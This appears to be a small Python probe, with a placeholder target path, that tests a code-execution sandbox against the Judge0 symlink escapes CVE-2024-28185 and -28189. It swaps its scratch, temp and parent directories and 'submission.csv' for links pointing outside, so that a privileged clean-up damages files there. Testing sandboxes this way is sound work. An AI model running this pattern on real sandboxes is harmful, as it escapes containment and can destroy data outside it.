# Replaces its own scratch directory, or something beside it, by a link, against a clean-up with more rights (Judge0, CVE-2024-28185 and
# -28189).
import os
here = os.getcwd()
for path in (here, os.environ["TMPDIR"], os.path.dirname(here)):
    for action in (lambda: os.rename(path, path + ".moved"), lambda: os.rmdir(path), lambda: os.symlink("@OUTSIDE@", path + ".link"),
                   lambda: os.symlink("@OUTSIDE@", path)):
        try:
            action()
        except OSError:
            pass
for name in ("scratch", "tmp", "submission.csv"):
    try:
        os.symlink("@OUTSIDE@/precious", name)
    except OSError:
        pass
print("held")
